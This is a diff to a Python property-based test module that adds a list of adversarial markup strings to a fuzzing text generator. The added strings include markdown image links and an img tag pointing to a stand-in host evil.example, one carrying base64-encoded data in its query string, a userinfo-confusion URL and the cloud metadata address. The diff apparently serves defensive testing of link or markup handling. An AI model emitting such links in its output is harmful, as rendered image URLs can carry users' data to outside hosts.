@@ -44,6 +44,15 @@ MIIEowIBAAKCAQEAx4UbaDzY5xjW6hc9jwN0mX33XpTDVW8W|AoIBAQDnK3DbcFTgM5yy\nqV59QiqaV
     .replace("\n", "|")
     .split("|")
 )
+_MARKUP = (
+    *(
+        "![a b](https://evil.example/p?q=dGhlIHBhc3N3b3JkIGlz)",
+        "[x](//evil.example/y)",
+        "<img src='//evil.example'>",
+    ),
+    *("https://good.example@evil.example/", "http://169.254.169.254/latest", "[1]: https://evil.example/z"),
+    *("```py\ndef f(x):\n```\n", "```", "~~~sql\n", "SELECT a FROM b\n", '{"a": [1, {"b": "}"}]}', "{", '["'),
+)
 _ODD = ("\U0001f469\u200d\U0001f467", "e\u0301", "\uff11\uff12\uff13", "\uff20", "\u0664\u0662")
 _SPACES = (
     "",
@@ -71,7 +80,7 @@ def _texts(draw: st.DrawFn) -> str:
     """Words and values, some cut short, with anything or nothing between them."""
     chunks = []
     for _ in range(draw(st.integers(1, 9))):
-        value = draw(st.sampled_from([*_PROSE, *_VALUES, *_ODD]))
+        value = draw(st.sampled_from([*_PROSE, *_VALUES, *_MARKUP, *_ODD]))
         if draw(st.integers(0, 4)) == 0:
             value = value[: draw(st.integers(0, len(value)))]
         chunks += [value, draw(st.sampled_from(_SPACES + _MARKS))]
